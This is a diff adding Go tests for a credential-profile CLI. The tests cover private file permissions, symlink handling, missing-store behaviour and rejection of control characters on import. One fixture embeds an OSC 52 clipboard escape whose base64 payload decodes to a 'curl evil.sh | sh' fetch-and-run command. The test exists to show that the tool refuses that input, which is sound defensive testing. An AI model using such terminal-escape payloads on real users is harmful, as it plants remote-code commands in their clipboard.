@@ -284,3 +284,107 @@ func BenchmarkProfileList10k(b *testing.B) {
 		}
 	}
 }
+
+// TestProfileExportPrivateFile: --include-secrets -o FILE leaves a 0600 file
+// even when a 0644 file was there, and replaces a symlink instead of
+// writing through it.
+func TestProfileExportPrivateFile(t *testing.T) {
+	c := newCLI(t)
+	c.seed()
+	dir := t.TempDir()
+	out := filepath.Join(dir, "backup.json")
+	if err := os.WriteFile(out, []byte("old"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(out, 0o644); err != nil { // umask-proof
+		t.Fatal(err)
+	}
+	c.ok("profile", "export", "--include-secrets", "-o", out)
+	fi, err := os.Lstat(out)
+	if err != nil || fi.Mode().Perm() != 0o600 || !fi.Mode().IsRegular() {
+		t.Fatalf("export file: %v %v", fi.Mode(), err)
+	}
+	if data, _ := os.ReadFile(out); !strings.Contains(string(data), clientSecretValue) {
+		t.Fatalf("export lacks the secret it was asked for:\n%s", data)
+	}
+
+	target := filepath.Join(dir, "target.txt")
+	if err := os.WriteFile(target, []byte("keep me"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	link := filepath.Join(dir, "link.json")
+	if err := os.Symlink(target, link); err != nil {
+		t.Fatal(err)
+	}
+	c.ok("profile", "export", "--include-secrets", "-o", link)
+	if data, _ := os.ReadFile(target); string(data) != "keep me" {
+		t.Fatalf("export wrote through the symlink: target now %q", data)
+	}
+	fi, err = os.Lstat(link)
+	if err != nil || fi.Mode()&os.ModeSymlink != 0 || fi.Mode().Perm() != 0o600 {
+		t.Fatalf("symlink path after export: %v %v", fi.Mode(), err)
+	}
+}
+
+// TestProfileImportRejectsTerminalEscapes: an OSC 52 (clipboard) payload in
+// notes is refused with the field's name, escaped in the message, and
+// nothing is imported.
+func TestProfileImportRejectsTerminalEscapes(t *testing.T) {
+	c := newCLI(t)
+	c.seed()
+	before := c.ok("profile", "export", "--include-secrets")
+	in := `[{"name":"evil","kind":"client-credentials","token_url":"https://idp.example.com/token",` +
+		`"notes":"hello \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"}]`
+	code, out, errs := c.run(in, "profile", "import", "-")
+	if code != exitUsage || out != "" || !strings.Contains(errs, `profile "evil" (line 1): notes: contains the control character U+001B`) ||
+		strings.ContainsAny(errs, "\x1b\x07") || strings.Count(errs, "\n") != 1 {
+		t.Fatalf("exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+	if after := c.ok("profile", "export", "--include-secrets"); after != before {
+		t.Fatal("a rejected import changed the store")
+	}
+	// The CLI escapes what it prints as well (a second defence).
+	var b bytes.Buffer
+	if err := printProfile(&b, store.Profile{Name: "x", Notes: "a\x1b]52;c;Zm9v\x07b", Tags: []string{"t\u009b"}}); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(b.String(), "\x1b\x07\u009b") || !strings.Contains(b.String(), `a\x1b]52;c;Zm9v\x07b`) {
+		t.Fatalf("show printed raw control characters: %q", b.String())
+	}
+}
+
+// TestProfileMissingStoreCreatesNothing: reading a store that does not
+// exist says so and leaves no directory or file behind.
+func TestProfileMissingStoreCreatesNothing(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "nonexistent", "dir")
+	c := &cli{t: t, store: filepath.Join(dir, "x.db")}
+	code, out, errs := c.run("", "profile", "list")
+	if code != 0 || out != "" || errs != "no profiles yet (store "+c.store+" does not exist yet); add one with: authlab profile add NAME --kind KIND ...\n" {
+		t.Fatalf("list: exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+	if out := c.ok("profile", "list", "--json"); strings.TrimSpace(out) != "[]" {
+		t.Fatalf("list --json: %q", out)
+	}
+	code, _, errs = c.run("", "profile", "show", "corp")
+	if code != exitUsage || errs != "authlab: no profile \"corp\": store "+c.store+" does not exist yet\n" {
+		t.Fatalf("show: exit %d, stderr %q", code, errs)
+	}
+	if _, err := os.Stat(filepath.Dir(dir)); !os.IsNotExist(err) {
+		t.Fatalf("a read created %s: %v", filepath.Dir(dir), err)
+	}
+	c.seed()
+	fi, err := os.Stat(c.store)
+	di, derr := os.Stat(dir)
+	if err != nil || derr != nil || fi.Mode().Perm() != 0o600 || di.Mode().Perm() != 0o700 {
+		t.Fatalf("after add: file %v dir %v (%v %v)", fi, di, err, derr)
+	}
+}
+
+// TestProfileImportFileCapped: import reads regular files only.
+func TestProfileImportFileCapped(t *testing.T) {
+	c := newCLI(t)
+	code, _, errs := c.run("", "profile", "import", t.TempDir())
+	if code != exitUsage || !strings.Contains(errs, "not a regular file") {
+		t.Fatalf("import a directory: exit %d, stderr %q", code, errs)
+	}
+}
